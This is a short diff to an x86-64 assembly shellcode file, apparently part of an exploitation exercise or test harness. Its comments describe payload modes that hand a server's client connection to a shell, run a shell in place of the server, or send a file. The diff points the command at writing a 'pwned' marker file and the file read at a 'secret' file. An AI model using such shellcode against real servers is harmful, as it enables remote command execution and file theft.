@@ -4,6 +4,8 @@
 #   FORK            a child puts the connection in the place of its stdin, stdout and stderr, and executes a shell
 #   EXECVE          executes a shell in the server's place
 #   READ            sends a file, by calls in the order in which the server sends files
+#
+# FOLDER is the server's, CLIENT its connection.
     .text
     # The code is below the stack pointer, where calls would write.
     sub $16384, %rsp
@@ -94,6 +96,9 @@ shell:
 option:
     .asciz "-c"
 command:
-    .asciz COMMAND
+    .ascii "echo pwned>"
+    .ascii FOLDER
+    .asciz "/pwned"
 secret:
-    .asciz SECRET
+    .ascii FOLDER
+    .asciz "/secret"
